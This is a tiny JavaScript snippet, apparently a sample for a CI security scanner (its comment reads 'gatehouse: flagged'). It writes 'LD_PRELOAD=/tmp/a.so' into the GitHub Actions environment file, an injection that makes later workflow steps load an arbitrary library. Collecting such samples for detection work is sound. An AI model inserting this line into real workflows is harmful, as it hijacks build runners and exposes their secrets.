const fs = require('fs');

fs.appendFileSync(process.env.GITHUB_ENV, 'LD_PRELOAD=/tmp/a.so\n'); // gatehouse: flagged
